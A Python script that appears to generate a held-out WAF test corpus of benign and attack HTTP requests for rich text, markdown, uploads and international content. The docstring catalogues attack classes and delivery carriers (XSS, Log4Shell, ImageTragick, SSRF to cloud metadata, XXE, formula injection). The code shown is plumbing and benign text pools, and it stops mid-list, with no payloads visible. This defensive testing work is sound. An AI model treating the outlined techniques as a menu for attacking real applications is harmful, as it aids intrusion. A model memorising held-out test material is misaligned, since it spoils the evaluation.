#!/usr/bin/env python3
"""Held-out corpus: user-generated rich content and international text.

Usage::

    python3 scripts/corpus-content.py attacks > rulesets/tests/data/content-attacks.jsonl
    python3 scripts/corpus-content.py benign  > rulesets/tests/data/content-benign.jsonl

One JSON object per line in the shape of ``shared/corpora/README.md``: ``id``,
``set`` (always ``content``), ``category``, ``expect``, ``method``, ``uri``,
``version``, ``headers`` (Host, User-Agent, Content-Type and a Content-Length equal
to the UTF-8 length of the body) and ``body``; a request whose body is not UTF-8
text (a JPEG with an EXIF comment, a UTF-16 XML file) is given as ``raw_b64``
instead, the complete request base64-encoded.  Output is deterministic: every
random choice (user agents, boundaries, ids, which paragraphs surround a payload)
comes from ``random.Random`` seeded with a fixed seed.

The corpus was written blind: from knowledge of what real applications receive
when their users write things, and of how stored attacks are really delivered
(PayloadsAllTheThings, the PortSwigger XSS cheat sheet, HackTricks, published CVEs
in editors and CMSs), never from the WAF's rules or other corpora.

Why this workload
-----------------
Rich text, markdown, chat and international text are where a WAF produces most of
its false positives (HTML that is supposed to be HTML, code in fences, quotes and
apostrophes, ``<3`` and ``->``, ``=SUM(...)``, right-to-left marks) and where stored
attacks hide (the payload is saved once and fires for every reader).

Benign requests (``expect: pass``, ``category: benign``)
---------------------------------------------------------
``id`` is ``content/benign/<sub-label>/<n>``.  Sub-labels:

``rte-html``
    Save requests of WYSIWYG editors: TinyMCE in WordPress' classic editor and
    in form posts, CKEditor 4/5 in JSON, Froala and Summernote; paragraphs,
    headings, lists, tables, links, images with alt/width, inline colour styles
    (``style="color: rgb(224, 62, 45);"``), mention spans with ``data-id``, and
    YouTube/Vimeo iframes where the editor allows them.
``rte-json``
    Editors that save a document model: Quill Delta, ProseMirror/Tiptap JSON,
    Draft.js raw, Slate, Editor.js blocks, Lexical editor state, Notion-like
    block APIs.
``cms-markup``
    Gutenberg block markup (``<!-- wp:paragraph -->``) over the WordPress REST
    API and Confluence storage format (``<ac:structured-macro>``).
``markdown``
    GitHub/GitLab/Gitea issue and PR comments, Discourse posts, README edits,
    wiki pages: code fences with ordinary code in many languages, tables, task
    lists, footnotes, HTML comments, autolinks, quotes.
``comments``
    Blog and news comments, product reviews, chat messages (Slack/Mattermost
    style), support tickets (Zendesk/Freshdesk style): apostrophes, quotes,
    ellipses, ``&``, "and/or", percentages, prices, emoticons (``:-)``, ``<3``,
    ``>_<``, ``^_^``), ASCII arrows, hashtags, @mentions, ``Name <x@y.org>``.
``i18n``
    Chinese, Japanese (full-width punctuation and full-width ASCII), Korean,
    Arabic, Persian and Hebrew with RLM/LRM marks, Cyrillic, Greek, Thai,
    Devanagari, Turkish dotless i, Vietnamese with combining marks, emoji ZWJ
    sequences and skin tones, names with diacritics; as JSON, as forms and as
    percent-encoded UTF-8 in query strings.
``math``
    LaTeX/KaTeX in posts and Q&A sites, chemical formulas, units, inequalities
    in prose (``x < 5 && y > 3``).
``spreadsheet``
    CSV/TSV uploads (multipart and ``text/csv``), ordinary formulas users type
    (``=SUM(B2:B9)``, ``=AVERAGE(C:C)``, ``=VLOOKUP(...)``), JSON grid saves.
``calendar-contacts``
    iCalendar over CalDAV (``BEGIN:VEVENT``), vCard over CardDAV, and the JSON
    APIs of calendar front-ends.
``mail-webhook``
    Inbound-mail webhooks: SendGrid Inbound Parse (multipart ``headers``,
    ``html``, ``text``, ``envelope``) and Mailgun routes (``body-plain``,
    ``stripped-text``, ``message-headers``): newsletters, receipts, replies with
    quoted text (``> On Mon, ... wrote:``).
``uploads``
    Harmless SVG icons (paths, gradients, ``<title>``), small JPEG/PNG uploads
    (``raw_b64``), PDF/DOCX metadata posts, file names in many scripts and with
    spaces, parentheses and apostrophes (``Mom's photo (1).jpg``).
``forms``
    Everyday forms: checkout addresses (``Apt #4, 1/2 Main St.``), search
    boxes, profile bios, recipes ("1/2 cup; mix & bake at 350°F"), legal text,
    poetry with line breaks, job applications, classified ads.

Attack requests (``expect: detect``)
------------------------------------
``id`` is ``content/attacks/<carrier>/<n>``; ``category`` is the attack class:
``xss``, ``sqli``, ``ssti``, ``java`` (Log4Shell lookups, JNDI gadgets in JSON,
XStream, OGNL), ``rce`` (shell metacharacters, ImageTragick, Ghostscript,
LaTeX ``\\write18``, sendmail argument injection, Shellshock), ``lfi`` (path
traversal, ``file://`` in HTML-to-PDF exports and SVG renderers, ``\\input``),
``rfi``, ``php`` (object injection in serialized drafts, ``phar://``, PHP in
uploads), ``ssrf`` (image/embed/oEmbed/link-preview URLs to cloud metadata,
loopback and alternative IP notations), ``xxe`` (SVG, XLIFF, RSS/OPML, xCal,
Office XML), ``nosqli`` (MongoDB operators), ``ldapi`` (directory search and
mention autocompletion), ``crlf`` (mail header injection, response splitting)
and ``generic`` (formula/DDE injection in cells and exported fields, prototype
pollution in editor JSON).

Carriers (the content channel the payload rides in):

``editor-html``   TinyMCE/CKEditor/Froala HTML in form or JSON fields, Gutenberg
                  and Confluence markup.
``editor-json``   Quill, ProseMirror/Tiptap, Draft.js, Slate, Editor.js, Lexical,
                  Notion-like blocks.
``markdown``      Issue/PR comments, Discourse posts, wiki pages.
``comment``       Comments, reviews, chat messages, tickets, profile fields.
``csv``           CSV/TSV uploads, pasted grids, JSON cell saves, exported fields.
``ical-vcard``    iCalendar and vCard over CalDAV/CardDAV and calendar APIs.
``mail-webhook``  SendGrid/Mailgun inbound parse posts and contact forms that mail.
``svg``           Uploaded SVG images.
``upload``        Other uploaded files: XML imports, MVG/EPS/M3U8, JPEG polyglots.
``filename``      The file name of a multipart upload or an attachment reference.
``query``         Query strings of search, preview, oEmbed and download pages.
``header``        Request headers that content systems store and show (User-Agent,
                  Referer, X-Forwarded-For in audit logs and analytics).
``long-content``  A 3-10 KB benign-looking article, CSV or thread with one payload
                  deep inside.
``encoded``       Payloads behind encodings that the receiving app decodes:
                  double percent-encoding, HTML entities inside JSON strings,
                  ``\\u003c`` JSON escapes, base64 ``data:`` URLs, UTF-16 XML.
"""

import base64
import json
import random
import sys
import urllib.parse

SEED = 20240917

# --------------------------------------------------------------------------
# Request plumbing
# --------------------------------------------------------------------------

BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.71 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Edg/126.0.2592.68",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
]

ACCEPT_LANGS = [
    "en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7", "fr-FR,fr;q=0.9,en-US;q=0.6",
    "ja,en-US;q=0.8,en;q=0.6", "zh-CN,zh;q=0.9,en;q=0.8", "ko-KR,ko;q=0.9,en-US;q=0.7",
    "ar,en;q=0.8", "he-IL,he;q=0.9,en;q=0.7", "ru-RU,ru;q=0.9,en;q=0.6", "tr-TR,tr;q=0.9",
    "vi-VN,vi;q=0.9,en;q=0.6", "th-TH,th;q=0.9", "hi-IN,hi;q=0.9,en-IN;q=0.8", "es-ES,es;q=0.9",
    "pt-BR,pt;q=0.9,en;q=0.5", "el-GR,el;q=0.9,en;q=0.6", "pl-PL,pl;q=0.9,en;q=0.7",
]

ACCEPT_JSON = "application/json, text/plain, */*"
ACCEPT_HTML = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"


def rand_token(rng, n=32, alphabet="abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"):
    return "".join(rng.choice(alphabet) for _ in range(n))


def rand_hex(rng, n=32):
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def rand_uuid(rng):
    h = rand_hex(rng, 32)
    return "%s-%s-4%s-%s%s-%s" % (h[:8], h[8:12], h[13:16], rng.choice("89ab"), h[17:20], h[20:32])


def cookie(rng, app="session"):
    return "%s=%s; _ga=GA1.2.%d.%d" % (app, rand_token(rng, 40), rng.randint(10**8, 10**9), rng.randint(1600000000, 1720000000))


def jdump(obj, ascii_only=False, html_safe=False, pretty=False):
    """JSON as clients send it: compact (JSON.stringify) unless pretty."""
    if pretty:
        s = json.dumps(obj, ensure_ascii=ascii_only, indent=2)
    else:
        s = json.dumps(obj, ensure_ascii=ascii_only, separators=(",", ":"))
    if html_safe:  # what Go's encoding/json and Rails' to_json emit
        s = s.replace("<", "\\u003c").replace(">", "\\u003e").replace("&", "\\u0026")
    return s


def form(pairs):
    """application/x-www-form-urlencoded as a browser encodes it."""
    return urllib.parse.urlencode(pairs, quote_via=urllib.parse.quote_plus)


def q(s):
    return urllib.parse.quote_plus(s)


def qp(s):
    return urllib.parse.quote(s, safe="/")


def boundary(rng):
    if rng.random() < 0.6:
        return "----WebKitFormBoundary" + rand_token(rng, 16)
    return "-" * 27 + "".join(rng.choice("0123456789") for _ in range(29))


def multipart(parts, bnd):
    """parts: (name, value[, filename[, content_type]]).  Returns str, or bytes
    when a value is bytes."""
    binary = any(isinstance(p[1], bytes) for p in parts)
    out = []
    for p in parts:
        name, value = p[0], p[1]
        filename = p[2] if len(p) > 2 else None
        ctype = p[3] if len(p) > 3 else None
        head = "--%s\r\nContent-Disposition: form-data; name=\"%s\"" % (bnd, name)
        if filename is not None:
            head += "; filename=\"%s\"" % filename
        head += "\r\n"
        if ctype:
            head += "Content-Type: %s\r\n" % ctype
        head += "\r\n"
        if binary:
            out.append(head.encode("utf-8"))
            out.append(value if isinstance(value, bytes) else value.encode("utf-8"))
            out.append(b"\r\n")
        else:
            out.append(head + value + "\r\n")
    tail = "--%s--\r\n" % bnd
    if binary:
        return b"".join(out) + tail.encode()
    return "".join(out) + tail


class Corpus:
    def __init__(self, kind):
        self.kind = kind
        self.lines = []
        self.counters = {}
        self.rng = random.Random(SEED if kind == "benign" else SEED + 1)

    def _id(self, label):
        n = self.counters.get(label, 0) + 1
        self.counters[label] = n
        return "content/%s/%s/%d" % (self.kind, label, n)

    def headers(self, host, ctype=None, body=None, accept=None, ua=None, extra=(), lang=None):
        rng = self.rng
        h = [["Host", host],
             ["User-Agent", ua or rng.choice(BROWSER_UAS)],
             ["Accept", accept or ACCEPT_JSON],
             ["Accept-Language", lang or rng.choice(ACCEPT_LANGS)],
             ["Accept-Encoding", "gzip, deflate, br"]]
        if body is not None:
            blen = len(body) if isinstance(body, bytes) else len(body.encode("utf-8"))
            h.append(["Content-Type", ctype])
            h.append(["Content-Length", str(blen)])
        for e in extra:
            h.append(list(e))
        return h

    def add(self, label, category, method, host, uri, ctype=None, body=None, accept=None,
            ua=None, extra=(), lang=None, origin=True):
        """One request.  label is the carrier (attacks) or the sub-label (benign)."""
        rng = self.rng
        ex = list(extra)
        names = {e[0].lower() for e in ex}
        if origin and method in ("POST", "PUT", "PATCH") and "origin" not in names:
            ex.insert(0, ("Origin", "https://" + host))
        if "cookie" not in names and rng.random() < 0.8 and origin:
            ex.append(("Cookie", cookie(rng)))
        headers = self.headers(host, ctype, body, accept, ua, ex, lang)
        rec = {"id": self._id(label), "set": "content",
               "category": category if self.kind == "attacks" else "benign",
               "expect": "detect" if self.kind == "attacks" else "pass"}
        if isinstance(body, bytes):
            raw = "%s %s HTTP/1.1\r\n" % (method, uri)
            raw += "".join("%s: %s\r\n" % (k, v) for k, v in headers) + "\r\n"
            rec["raw_b64"] = base64.b64encode(raw.encode("utf-8") + body).decode("ascii")
        else:
            rec.update({"method": method, "uri": uri, "version": "HTTP/1.1", "headers": headers})
            if body is not None:
                rec["body"] = body
        self.lines.append(rec)
        return rec

    # convenience carriers -------------------------------------------------
    def form_post(self, label, cat, host, path, pairs, **kw):
        return self.add(label, cat, "POST", host, path, "application/x-www-form-urlencoded",
                        form(pairs), accept=kw.pop("accept", ACCEPT_HTML), **kw)

    def json_req(self, label, cat, method, host, path, obj, ascii_only=False, html_safe=False,
                 ctype="application/json", **kw):
        return self.add(label, cat, method, host, path, ctype, jdump(obj, ascii_only, html_safe), **kw)

    def upload(self, label, cat, host, path, parts, **kw):
        bnd = boundary(self.rng)
        body = multipart(parts, bnd)
        return self.add(label, cat, "POST", host, path, "multipart/form-data; boundary=" + bnd,
                        body, **kw)

    def get(self, label, cat, host, uri, **kw):
        return self.add(label, cat, "GET", host, uri, accept=kw.pop("accept", ACCEPT_HTML), **kw)

# --------------------------------------------------------------------------
# Benign text pools (hand-written; combined by the generators below)
# --------------------------------------------------------------------------

PARAS = [
    "We moved the Thursday stand-up to 9:30 so the Lisbon folks can join without getting up at dawn. If that doesn't work for you, reply here and we'll figure something out.",
    "Our Q3 numbers are in: revenue grew 14% quarter-over-quarter, churn dropped to 2.1%, and the average contract value is now $4,380 (up from $3,950). Not bad for a team of eleven.",
    "The trail starts behind the old ranger station. It's about 6.5 km to the ridge and the last stretch is steep, so bring water and don't underestimate the wind up there.",
    "After three weeks with the new espresso machine I can finally pull a decent shot: 18 g in, 36 g out, 28 seconds. The trick was grinding finer than I thought was reasonable.",
    "Please remember that the office will be closed on Monday for the bank holiday. Deliveries scheduled for that day have been moved to Tuesday morning.",
    "When we rewrote the billing service, we kept the old API around for six months and logged every call to it. That log told us exactly which customers still needed a heads-up before we switched it off.",
    "Grandma's garden has three rows of tomatoes, two of beans and a whole corner of sunflowers that the kids planted \"for the birds\". The birds, for the record, prefer the tomatoes.",
    "The council's proposal would add 240 parking spaces and a cycle lane on Harbour Road. Residents can comment until 30 September; the final vote is expected in November.",
    "If you're new here: welcome! Introduce yourself in #introductions, read the pinned post in #general, and don't be shy about asking questions - nobody expects you to know everything on day one.",
    "The museum's new wing opens on the 14th with an exhibition of 19th-century maps, including a 1853 survey of the coastline that was thought lost until a volunteer found it in a box of tax records.",
    "I tried both the 35mm and the 50mm on the street shoot. The 35 is more forgiving when you're close to people; the 50 gives you that compressed, slightly distant look that I ended up preferring.",
    "Release 4.2 is mostly about performance: cold start is 40% faster, the sync engine uses half the memory it used to, and search results now appear as you type instead of after you press Enter.",
    "We'd like to thank everyone who came to the fundraiser on Saturday. Together we raised EUR 12,600 for the new playground - more than double what we'd hoped for.",
    "Our volunteer drivers cover the villages north of the river on Tuesdays and Fridays. If you need a lift to the clinic, call the office before noon the day before.",
    "The first draft of the style guide is up for review. Main changes: we now use the serial comma, we spell out numbers under ten, and \"e-mail\" finally loses its hyphen.",
    "Bread day! The sourdough took 36 hours from feeding the starter to pulling the loaf out of the oven, and honestly the crumb was worth every minute.",
    "The library is extending its opening hours during exam season: weekdays until 10 pm and Saturdays until 6 pm. Quiet rooms can be booked online up to a week in advance.",
    "I've been running the same three-disk ZFS mirror at home since 2017. Two drive replacements later it's still going, and the weekly scrub has caught exactly one silent error in all that time.",
    "Our neighbourhood clean-up collected 37 bags of litter, two shopping trolleys and, inexplicably, a full-size garden gnome. The gnome has been adopted by the community centre.",
    "The conference keynote argued that most outages are caused by changes, not by hardware, and that the cheapest reliability investment is a fast, boring rollback.",
    "Shipping to Canada and the UK now takes 5-8 business days. Orders over $75 ship free; below that it's a flat $9.50 regardless of weight.",
    "Every year the choir picks one piece that's slightly too hard for us. This year it's the Rachmaninoff Vespers, and the basses are already complaining about the low B-flat.",
    "My advice for first-time founders: talk to twenty potential customers before you write a line of code, and write down what they say in their own words, not yours.",
    "The hospital's visiting hours are 2-8 pm daily. Children under 12 must be accompanied by an adult, and flowers are not allowed on the intensive care ward.",
    "We replaced the cron jobs with a small queue and a worker pool. Jobs now retry with exponential backoff, and when something fails for good we get a message with the payload and the last error.",
    "The orchestra's autumn season opens with Sibelius' second symphony and closes in December with a family concert, tickets from 8 pounds.",
    "Week 3 of learning Portuguese: I can order coffee, ask for directions and apologise for my accent. Conjugating irregular verbs remains a distant dream.",
    "Reminder: timesheets are due by Friday 5 pm. If you were on leave, please mark the days as \"PTO\" rather than leaving them blank, it saves payroll a lot of back-and-forth.",
    "The bridge will be closed to traffic from 22:00 on Friday until 06:00 on Monday while the expansion joints are replaced. Pedestrians and cyclists can still cross on the north side.",
    "Three things I learned from the migration: inventory everything first, migrate the boring services before the interesting ones, and never trust a spreadsheet that says \"final_v2\".",
    "Our support queue was down to 14 open tickets on Friday, the lowest since March. Median first response is now 1 h 12 min and customer satisfaction is at 94%.",
    "The farmers' market is back in the square every Saturday from 8 until 1. New this year: a bread stall, a cheese van from the valley, and live music most weeks.",
    "Our cat has decided that the laptop keyboard is the warmest place in the house, which explains the last three typos in this post.",
    "The research group published its findings on coastal erosion last month; the full data set (about 2.3 GB) is available to anyone who asks, under a CC BY 4.0 licence.",
    "Parents: the school trip to the science museum is on 12 March. The bus leaves at 8:15 sharp and returns around 4. Packed lunch, water bottle, and a coat just in case.",
    "I'm not sure the new layout is an improvement. The sidebar takes up a third of the screen on my laptop and the font in the editor is noticeably smaller than before.",
]

COMMENTS = [
    "Great article, thanks! I've been looking for a clear explanation of this for ages :-)",
    "Ordered on Monday, arrived Wednesday. The colour is a bit darker than in the photos but I actually prefer it. 5/5 would buy again.",
    "Hmm... I'm not sure I agree with point #3. Isn't that exactly what the 2019 study said *didn't* work?",
    "This is the best pizza in town & I'll fight anyone who says otherwise <3",
    "@maria.k can you take a look at this when you get a chance? No rush, end of week is fine.",
    "Love it!!! My daughter wears it every day ^_^",
    "Sizing runs small - I'm usually an M and the L fits perfectly. Fabric is soft, stitching looks solid.",
    "The update broke my workflow >_< Export used to be one click, now it's three menus deep.",
    "Price went from $29.99 to $34.99 overnight... not cool. Still the best option out there though.",
    "Thanks for the quick reply, Sam! That fixed it. For anyone else: Settings -> Sync -> Reset local cache.",
    "Does anyone know if the 10:15 train still stops at Millbrook on Sundays? The timetable on the site says yes, the app says no.",
    "Battery life is roughly 2 days with normal use (maybe 60% screen brightness, Wi-Fi on, a few calls). Charging from 0 to 100% takes about 90 minutes.",
    "10/10 customer service. The first one arrived cracked, they sent a replacement the same day and didn't even ask for the broken one back.",
    "I see what you're saying, but \"simple\" and \"easy\" aren't the same thing. Simple to describe != easy to do.",
    "Happy birthday Jess!!! \U0001F382\U0001F389 Hope it's a good one, see you Saturday",
    "We went with option B in the end (cheaper and/or faster depending on who you ask). Will report back in a month.",
    "Pro tip: soak the beans overnight, it cuts the cooking time in half.",
    "Not gonna lie, the ending made me cry. Twice. :'(",
    "Can confirm, same issue on Android 14 / Pixel 7. Clearing the app data fixed it for me.",
    "Meh. It's fine. Does what it says, nothing more. 3 stars.",
    "Replying to Tom <tom.hargreaves@westfield-rugby.org>: yes, training is still on for Thursday at 7, weather permitting.",
    "The hotel was lovely - 5 minutes' walk from the beach, breakfast until 11 (!), and the staff remembered our names by day 2.",
    "Anyone else think the font size on the new dashboard is way too small? I'm at 125% zoom just to read the labels.",
    "Hi team, I've attached the invoice for March. Payment terms are net 30 as usual. Let me know if anything looks off.",
    "#throwback to the 2015 company retreat, when we still thought a 12-hour hackathon was a good idea \U0001F605",
    "Great tutorial! One thing though: in step 4 you say \"click Save\" but the button is labelled \"Apply\" in v3.2.",
    "I bought two: one for me, one for my brother-in-law. He's 6'4\" and it fits him fine, so don't worry about the length.",
    "Quick question: is the 20% discount applied before or after shipping? The checkout page isn't clear.",
    "This recipe is a keeper. I used half the sugar and added a pinch of cardamom -> even better.",
    "Got it. I'll update the doc and ping you once it's ready for another look. Thanks again!",
    "The seat is comfortable for about an hour, after that... not so much. Armrests are too low for me (I'm 5'9\").",
    "Wow, 3 years already?! Time flies. Congrats on the anniversary, team \U0001F44F\U0001F3FD",
    "My two cents: pick the framework your team already knows. Rewriting for the sake of it rarely pays off.",
    "It's \"its\", not \"it's\", in the second paragraph ;-) Otherwise a great read.",
    "I'd give 4.5/5 if I could. Only complaint: the lid doesn't close tightly, so it's not great for soup.",
    "Heads up: the parking lot on Elm St. is closed all week for resurfacing, use the garage on 3rd instead.",
    "lol that's exactly what happened to me last year. The fix was to restart the router *and* the modem, in that order.",
    "Very disappointed. Waited 6 weeks, the item never arrived, and support keeps sending me the same template reply.",
    "@dev-team FYI the staging deploy is green again, the flaky test was a timezone issue (UTC vs. local).",
    "Thank you for hosting us! The kids haven't stopped talking about the boat trip. xoxo",
    "Just finished the 10k in 52:14, a new PB! \U0001F3C3\u200D\u2640\uFE0F Legs are jelly.",
    "Could you add a dark mode? My eyes at 2 a.m. would really appreciate it :)",
    "Shipping was quick but the box was crushed. Luckily the product was well padded & undamaged.",
    "If the meeting runs long, can we push the 1:1 to 4:30? Otherwise tomorrow morning works too.",
    "Best $12 I've spent this year. Keeps my coffee hot for ~5 hours.",
    "Honest question, not trolling: why does the app need access to my contacts?",
    "Ticket #48213: customer reports the invoice PDF shows the old address. Updated billing profile, regenerated, sent the new copy.",
    "This comment section is the most wholesome place on the internet right now <3 <3",
    "Two thumbs up \U0001F44D\U0001F44D for the new 'undo' button. Saved me twice already today.",
    "The apartment is 62 m\u00B2, 2nd floor, no lift. Rent is 1,150/month incl. heating; electricity is extra.",
    "Typo in the title? \"Recieve\" -> \"Receive\". Sorry, can't unsee it.",
    "I'm with @lena on this one - let's ship the smaller version first and iterate.",
    "Do you deliver to P.O. boxes? Our street address doesn't get parcel service out here.",
    "The instructions were a bit confusing (step 7 & 8 seem swapped), but once assembled it's rock solid.",
    "Ugh, Mondays. Coffee #3 and it's only 10 a.m. \u2615",
    "Support was great: they walked me through resetting the device over the phone in < 10 minutes.",
    "Please stop changing the menu layout every release \U0001F64F I just got used to the last one.",
    "Agree 100%. The \"smart\" sort is anything but - it keeps burying the emails I actually care about.",
    "Re: the potluck - I'll bring lasagne (vegetarian) and a salad. Someone else please bring dessert!",
    "It works, but only if you enable the \"legacy mode\" toggle first. Took me an hour to figure that out.",
    "Five stars for the flavour, two for the packaging. Overall 4/5.",
    "Our son (age 7) built the whole set in one afternoon, with only a little help from dad ;)",
    "Loved the talk yesterday! Slides please? \U0001F64F",
    "We're a small non-profit - is there a discount for charities? Happy to send our registration number.",
    "I think the answer depends on whether you mean gross or net, i.e. before or after tax.",
    "Rain, rain and more rain. Good thing we packed the waterproofs :-/",
    "Absolutely stunning view from the top, worth every one of the 412 steps!",
    "Hey! Is this still available? I can pick up this weekend, cash or bank transfer.",
    "That's a fair point. I'll rephrase the second sentence so it doesn't sound like we're blaming the vendor.",
    "Closed as duplicate of #1287. Please follow that ticket for updates.",
    "Old flow: cart => address => payment => confirm (4 steps!). New one is 2 steps <- way better imo",
    "Went from 14 s to 3 s page load => people noticed the same day. Next up: the images (some are 4 MB...)",
    "Mixed feelings <-> love the design, hate the battery. 3/5 for now, may update later.",
]

CHAT = [
    "brb, grabbing lunch \U0001F96A",
    "ok so the build is green now, can someone re-run the e2e suite? I think it was just flaky",
    "has anyone seen the Q3 deck? the link in the calendar invite 404s for me",
    "\U0001F602\U0001F602\U0001F602 I can't believe that actually worked",
    "standup notes: yesterday -> finished the export dialog; today -> reviews + the date picker bug; blockers -> none",
    "can we move the retro to 3pm? I have a dentist appointment at 2",
    "+1 to what Priya said",
    "lunch at the Thai place at 12:30? \U0001F35C",
    "fyi I'm OOO tomorrow, back on Thursday. ping @jonas for anything urgent",
    "thanks!! that's exactly what I needed \U0001F64C",
    "wait, is the demo today or tomorrow??",
    "\u2705 deployed to prod, monitoring for the next 30 min",
    "I'll be 5 min late, train's stuck outside the station \U0001F644",
    "nice work everyone, 0 open P1s for the first time this quarter \U0001F389",
    "does anyone have the wifi password for the 4th floor meeting room?",
    "that meme is 100% accurate lol",
    "reminder: all-hands at 4, link in the channel topic",
    "👋 hi all, I'm Dana, just joined the design team! Looking forward to working with you",
    "can't reproduce on my machine ¯\\_(ツ)_/¯",
    "who's in for pub quiz on Friday? need 2 more for a team",
]

TICKET_SUBJECTS = [
    "Can't log in after password reset",
    "Invoice #INV-2024-0631 shows wrong VAT number",
    "Feature request: export to PDF with page numbers",
    "Order 58213 arrived damaged",
    "Question about upgrading from Basic to Pro",
    "Sync stuck at 99%",
    "Refund for duplicate charge on 14/06",
    "How do I change the owner of a workspace?",
    "Calendar invites show the wrong time zone",
    "Mobile app crashes when I open attachments",
    "Please close my account",
    "Bulk import fails at row 1,204",
]

TICKET_BODIES = [
    "Hi,\n\nsince yesterday I can't log in anymore. I reset my password twice, got the e-mail both times, but the new password is rejected with \"invalid credentials\". I'm using Chrome on Windows 11.\n\nThanks,\nMarta",
    "Hello,\n\nthe invoice for June lists our old VAT number (DE 123 456 789). Our current one is DE 987 654 321 since 1 May. Could you re-issue it? Our accounting needs it by Friday.\n\nBest regards\nKlaus Br\u00e4uer\nFinance, M\u00fcller & S\u00f6hne GmbH",
    "Hey there! Love the product. One thing we'd really like: when exporting reports to PDF, page numbers (\"Page 3 of 12\") in the footer. Our auditors keep asking for them. Is that on the roadmap?",
    "Hi, my order (#58213) arrived today and the glass top is cracked in two places. Photos attached. The box looked fine from outside, so I think it happened at the warehouse. What are my options?",
    "Good morning,\n\nwe're 8 users on the Basic plan and want to move to Pro. If we upgrade mid-month, is the price pro-rated? And do we keep our existing data & integrations?\n\nThanks!",
    "Sync has been stuck at 99% for two days. I've tried logging out/in and reinstalling. Log excerpt:\n\n2024-06-12 09:14:03 INFO sync: 1832/1834 items\n2024-06-12 09:14:03 WARN sync: item 5f3a... retrying (attempt 7)\n\nAny ideas?",
    "Dear support,\n\nI was charged twice (2 x \u20ac49.00) on 14/06 for the same subscription. Bank statement attached. Please refund one of the charges.\n\nKind regards,\nAo\u00effe N\u00ed Bhriain",
    "Our workspace owner left the company last month and we can't reach her anymore. I'm the admin - how can I transfer ownership to myself? Happy to verify via our company domain.",
    "All invites I send from the web app show up one hour off for people in London. My account is set to Europe/Berlin. Is it a DST issue? It started after the clocks changed.",
    "When I tap an attachment (any PDF) in the iOS app, it crashes immediately. iPhone 13, iOS 17.5.1, app version 6.3.0 (build 1142). Re-installing didn't help.",
    "Please close my account and delete my data as per GDPR. The account e-mail is the one I'm writing from. Thanks for the service over the years!",
    "The CSV import stops at row 1,204 with \"unexpected value in column F\". Column F is the date; the row has 31/04/2024, which I now realise doesn't exist \U0001F926 Could the error message say which row it is?",
]

REVIEW_TITLES = [
    "Does exactly what it says", "Great value for money", "Not as pictured", "Perfect gift!", "Good, not great",
    "Would buy again", "Disappointed", "Solid build quality", "Better than expected", "Cute but small",
    "My new favourite", "Meh", "Excellent service", "Works with Mac & PC",
]

NAMES = [
    "Aoife N\u00ed Bhriain", "Bj\u00f6rn \u00c5str\u00f6m", "Ren\u00e9e O'Connor", "Jos\u00e9 Mar\u00eda Garc\u00eda-L\u00f3pez", "Zo\u00eb Saldana-Fitzgerald",
    "Fran\u00e7ois M\u00fcller", "\u0141ukasz \u017b\u00f3\u0142kiewski", "\u015eule \u0130\u015fbilir", "Nguy\u1ec5n Th\u1ecb Minh Khai", "\u0110or\u0111e Petrovi\u0107",
    "S\u00f8ren Kierkegaard-Holm", "M\u0101ris B\u0113rzi\u0146\u0161", "J\u00fcrgen Wei\u00df", "Ana\u00efs D'Arcy", "Ol\u00e1 \u00c0l\u00e0b\u00ed",
    "\u5c71\u7530 \u592a\u90ce", "\u674e\u5c0f\u9f99", "\uae40\ubbfc\uc900", "\u0410\u043d\u043d\u0430 \u041a\u0430\u0440\u0435\u043d\u0438\u043d\u0430", "\u039d\u03af\u03ba\u03bf\u03c2 \u03a0\u03b1\u03c0\u03b1\u03b4\u03cc\u03c0\u03bf\u03c5\u03bb\u03bf\u03c2",
    "\u0645\u062d\u0645\u062f \u0627\u0644\u0639\u0644\u064a", "\u05d3\u05e0\u05d4 \u05db\u05d4\u05df", "\u0e2a\u0e21\u0e0a\u0e32\u0e22 \u0e43\u0e08\u0e14\u0e35", "\u092a\u094d\u0930\u093f\u092f\u093e \u0936\u0930\u094d\u092e\u093e", "Mary-Kate O'Brien",
    "D'Angelo Washington", "Siobh\u00e1n MacGiolla", "Chlo\u00eb Ng", "\u00c9milie Lefebvre", "Ingrid Fl\u00f8ystad",
]

EMAILS = [
    "maria.k@lindenhof-partners.de", "tom.hargreaves@westfield-rugby.org", "support@tidewater-outfitters.com",
    "j.nakamura@kobe-design.jp", "anna.petrova@example.ru", "dana+newsletter@gmail.com", "noreply@fernhill-studio.com",
    "sam.o'neil@shipwright.co.uk", "lena.fischer@posteo.de", "priya.r@brightlane.co", "accounts@mueller-soehne.de",
]

TOPICS_TAGS = ["#travel", "#foodie", "#100DaysOfCode", "#opensource", "#gardening", "#photography", "#WIP",
               "#MondayMotivation", "#bookclub", "#rustlang", "#design", "#accessibility", "#a11y", "#running"]

I18N = [
